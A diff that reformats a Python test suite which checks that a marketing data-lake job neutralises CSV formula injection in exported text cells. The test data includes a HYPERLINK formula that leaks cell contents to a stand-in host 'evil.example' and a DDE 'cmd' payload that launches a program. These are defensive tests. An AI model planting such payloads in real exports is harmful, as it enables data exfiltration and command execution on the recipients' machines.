@@ -27,10 +27,29 @@ from marketlake.lake import Lake
 
 RUN_DATE = dt.date(2024, 6, 30)
 TRICKY = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR",
-    'say "hi"', 'a\\"b', "a,b", "line1\nline2", "crlf\r\nend", "ends in CR\r", "  padded  ", " =1+1", "'quoted",
-    "''", "", None, "plain", "x=1", "ünï©ødé",
-]  # fmt: skip
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=1+1",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tTAB",
+    "\rCR",
+    'say "hi"',
+    'a\\"b',
+    "a,b",
+    "line1\nline2",
+    "crlf\r\nend",
+    "ends in CR\r",
+    "  padded  ",
+    " =1+1",
+    "'quoted",
+    "''",
+    "",
+    None,
+    "plain",
+    "x=1",
+    "ünï©ødé",
+]
 # What OWASP lists as the start of a formula: no text cell of the CSV may start with one of these.
 FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")
 TEXT = ["campaign_id", "user_id", "segment_name", "rfm_label", "offer", "channel", "item_1", "email"]
@@ -51,11 +70,21 @@ def export_rows(spark):
     n = len(TRICKY)
     rows = [
         (
-            "safe", tricky(i), tricky(i + 1), "Champions", tricky(i + 2), "email", n - i, tricky(i + 3),
-            tricky(i + 4), -7 * i, -i - 0.25, None if i == 5 else [tricky(i + 5), tricky(i + 6)][: i % 3],
+            "safe",
+            tricky(i),
+            tricky(i + 1),
+            "Champions",
+            tricky(i + 2),
+            "email",
+            n - i,
+            tricky(i + 3),
+            tricky(i + 4),
+            -7 * i,
+            -i - 0.25,
+            None if i == 5 else [tricky(i + 5), tricky(i + 6)][: i % 3],
         )
         for i in range(n)
-    ]  # fmt: skip
+    ]
     return spark.createDataFrame(rows, SCHEMA)
 
 
@@ -88,13 +117,17 @@ def test_the_csv_module_reads_the_parquet_values(exported):
     decoded = [
         {
             **{c: value(row[c]) for c in TEXT},
-            "audience_rank": int(row["audience_rank"]), "balance": int(row["balance"]), "score": float(row["score"]),
+            "audience_rank": int(row["audience_rank"]),
+            "balance": int(row["balance"]),
+            "score": float(row["score"]),
             "items": json.loads(row["items"]) if row["items"] else None,
         }
         for row in rows
-    ]  # fmt: skip
+    ]
     # The csv module reads a null and an empty text alike, as "".
-    assert decoded == [{k: "" if k in TEXT and v is None else v for k, v in record.items()} for record in expected]
+    assert decoded == [
+        {k: "" if k in TEXT and v is None else v for k, v in record.items()} for record in expected
+    ]
     assert [r["user_id"] for r in expected] == [tricky(i) for i in reversed(range(len(TRICKY)))]  # by rank
 
 
@@ -104,7 +137,9 @@ def test_pandas_reads_the_parquet_values(exported):
     read[TEXT] = read[TEXT].map(value)
     read["items"] = read["items"].map(lambda cell: json.loads(cell) if cell else None)
     expected = pd.read_parquet(parquet_path)
-    expected[TEXT] = expected[TEXT].fillna("")  # keep_default_na=False: a null reads as "", like an empty text
+    expected[TEXT] = expected[TEXT].fillna(
+        ""
+    )  # keep_default_na=False: a null reads as "", like an empty text
     expected["items"] = expected["items"].map(lambda items: None if items is None else list(items))
     pd.testing.assert_frame_equal(read, expected, check_dtype=False)
 
@@ -142,7 +177,7 @@ def test_quotes_are_doubled_and_whitespace_kept_in_the_file_itself(exported):
         text = f.read().decode("utf-8")
     assert '"say ""hi"""' in text and '"a\\""b"' in text  # a quote doubled, a backslash as it is
     assert ",  padded  ," in text and ',"",' in text  # an empty text is "", a null an empty cell
-    assert ",\"'\rCR\"," in text and ",'\tTAB," in text
+    assert ',"\'\rCR",' in text and ",'\tTAB," in text
 
 
 def test_neutralise_formulas_prefixes_text_cells_only(spark):
@@ -150,7 +185,10 @@ def test_neutralise_formulas_prefixes_text_cells_only(spark):
     prefixed = ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "''x", "x=", " =1", "", None, "\nx", "a\n=1"]
     schema = "cell string, number long, amount double, items array<string>"
     rows = [(cell, -i, -i - 0.5, [cell]) for i, cell in enumerate(cells)]
-    expected = [(cell, -i, -i - 0.5, [original]) for i, (cell, original) in enumerate(zip(prefixed, cells, strict=True))]
+    expected = [
+        (cell, -i, -i - 0.5, [original])
+        for i, (cell, original) in enumerate(zip(prefixed, cells, strict=True))
+    ]
     assert_df_equality(
         neutralise_formulas(spark.createDataFrame(rows, schema)), spark.createDataFrame(expected, schema)
     )
@@ -178,15 +216,27 @@ def test_the_activate_job_exports_tricky_ids_offers_and_contacts_safely(spark, c
         "user_id string, rfm_label string, recency_days double, monetary double, as_of_date date",
     )
     lake.write("gold.user_features", users, "append", partition_by=["as_of_date"])
-    segments = users.select("user_id", F.lit(0).alias("segment_id"), F.lit("loyal").alias("segment_name"),
-                            F.lit("v1").alias("model_version"), "as_of_date")  # fmt: skip
+    segments = users.select(
+        "user_id",
+        F.lit(0).alias("segment_id"),
+        F.lit("loyal").alias("segment_name"),
+        F.lit("v1").alias("model_version"),
+        "as_of_date",
+    )
     lake.write("gold.user_segments", segments, "append", partition_by=["as_of_date"])
     contacts = str(tmp_path / "contacts.parquet")
-    pd.DataFrame({"user_id": ids, "email": [f"=cmd|'/C calc'!A0 {i}@x" for i in range(len(ids))]}).to_parquet(contacts)
+    pd.DataFrame({"user_id": ids, "email": [f"=cmd|'/C calc'!A0 {i}@x" for i in range(len(ids))]}).to_parquet(
+        contacts
+    )
     campaign = {
-        "id": "tricky", "segments": ["loyal"], "offers": {"loyal": '-10% "today", only'}, "control_share": 0.0,
-        "items": 0, "cross_sell": 0, "export_columns": {"email": "email"},
-    }  # fmt: skip
+        "id": "tricky",
+        "segments": ["loyal"],
+        "offers": {"loyal": '-10% "today", only'},
+        "control_share": 0.0,
+        "items": 0,
+        "cross_sell": 0,
+        "export_columns": {"email": "email"},
+    }
     conf = tmp_path / "activate.yaml"
     conf.write_text(yaml.safe_dump({"activate": {"contacts": contacts, "campaigns": [campaign]}}))
     args = ["--lake", root, "--config", str(conf), "--run-date", RUN_DATE.isoformat()]
@@ -199,4 +249,4 @@ def test_the_activate_job_exports_tricky_ids_offers_and_contacts_safely(spark, c
     text = ["campaign_id", "user_id", "segment_name", "rfm_label", "offer", "channel", "email"]
     assert [{c: value(row[c]) for c in text} for row in rows] == [{c: r[c] for c in text} for r in expected]
     assert all(not row[c].startswith(FORMULA_CHARACTERS) for row in rows for c in text)
-    assert {row["offer"] for row in rows} == {"'-10% \"today\", only"}
+    assert {row["offer"] for row in rows} == {'\'-10% "today", only'}
